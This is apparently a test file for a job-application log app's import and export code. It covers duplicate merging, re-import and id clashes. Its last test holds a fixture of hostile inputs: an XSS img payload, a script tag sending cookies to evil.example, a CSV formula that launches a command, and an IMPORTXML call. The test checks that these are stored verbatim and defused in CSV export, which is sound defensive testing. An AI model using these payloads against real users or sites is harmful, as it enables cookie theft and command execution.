import {
  addManualEntry,
  exportLogCsv,
  exportLogJson,
  importLogJson,
  saveFromDetection,
  type LogEntry,
} from '@/utils/db';
import { closeAll, detection, freshDb, message } from './support';
import { NOW, expectUnchanged, file, fileEntry } from './import-files';

afterEach(closeAll);

describe('import merges duplicates by key', () => {
  test('two copies of one email in a file become one entry, keeping both copies’ notes', async () => {
    const db = freshDb();
    const older = fileEntry({ notes: 'first thoughts', tags: ['remote'] });
    const newer = fileEntry({
      uid: 'another-uid',
      updatedAt: '2026-03-20T10:00:00.000Z',
      notes: 'later thoughts',
      tags: ['Remote', 'data'],
      feedback: {
        status: 'requested',
        draftedOn: null,
        requestedOn: '2026-03-20',
        receivedOn: null,
        notes: '',
      },
    });
    expect(await importLogJson(file([older, newer]), db)).toEqual({
      ok: true,
      added: 1,
      merged: 1,
      total: 2,
    });
    const [entry] = await db.entries.toArray();
    expect(entry.notes).toBe('later thoughts\n\nfirst thoughts');
    expect(entry.tags).toEqual(['Remote', 'data']);
    expect(entry.feedback.status).toBe('requested');
  });

  test('an email already in the log is merged, not doubled; the person’s edits survive', async () => {
    const db = freshDb();
    const saved = await saveFromDetection({ message: message(), detection: detection() }, db);
    await db.entries.update(saved.id, { notes: 'written in the log' });
    const result = await importLogJson(
      file([fileEntry({ notes: 'written in the backup', followUpOn: '2026-04-01' })]),
      db,
    );
    expect(result).toEqual({ ok: true, added: 0, merged: 1, total: 1 });
    const entries = await db.entries.toArray();
    expect(entries).toHaveLength(1);
    expect(entries[0].id).toBe(saved.id);
    expect(entries[0].notes).toContain('written in the log');
    expect(entries[0].notes).toContain('written in the backup');
    expect(entries[0].followUpOn).toBe('2026-04-01');
  });

  test('importing the same backup twice changes nothing the second time', async () => {
    const db = freshDb();
    await addManualEntry({ company: 'By hand', notes: 'n' }, db);
    await saveFromDetection({ message: message(), detection: detection() }, db);
    const backup = await exportLogJson(db, { now: NOW });
    await expectUnchanged(db, async () => {
      expect(await importLogJson(backup, db)).toEqual({ ok: true, added: 0, merged: 2, total: 2 });
      expect(await importLogJson(backup, db)).toMatchObject({ ok: true, added: 0 });
    });
  });

  test('an entry whose id is taken gets a new id; nothing is overwritten', async () => {
    const db = freshDb();
    const mine = await addManualEntry({ company: 'Mine' }, db);
    const result = await importLogJson(
      file([fileEntry({ id: mine.id, uid: 'theirs', source: null, company: 'Theirs' })]),
      db,
    );
    expect(result).toMatchObject({ ok: true, added: 1 });
    const companies = (await db.entries.toArray()).map((e) => e.company).sort();
    expect(companies).toEqual(['Mine', 'Theirs']);
  });
});

describe('text that looks like code stays text', () => {
  const HOSTILE = {
    company: '<img src=x onerror="alert(1)">',
    role: '<script>document.location="https://evil.example/?c="+document.cookie</script>',
    notes: "=cmd|' /C calc'!A0",
    nextSteps: '+SUM(1,2)',
    subject: '@IMPORTXML("https://evil.example","//a")',
    tags: ['-1+1', '<b>bold</b>'],
  };

  test('is stored exactly, exported to JSON exactly, and defused in CSV', async () => {
    const db = freshDb();
    expect((await importLogJson(file([fileEntry(HOSTILE)]), db)).ok).toBe(true);
    const [stored] = await db.entries.toArray();
    expect(stored).toMatchObject(HOSTILE);
    const exported = JSON.parse(await exportLogJson(db)).entries[0] as LogEntry;
    expect(exported).toMatchObject(HOSTILE);
    const csv = await exportLogCsv(db);
    expect(csv).toContain(",'=cmd|' /C calc'!A0\r\n");
    expect(csv).toContain("'+SUM(1,2)");
    expect(csv).toContain(`"'@IMPORTXML(""https://evil.example"",""//a"")"`);
    expect(csv).toContain("'-1+1; <b>bold</b>");
    expect(csv).not.toMatch(/(^|,)[=+\-@]/m);
  });
});
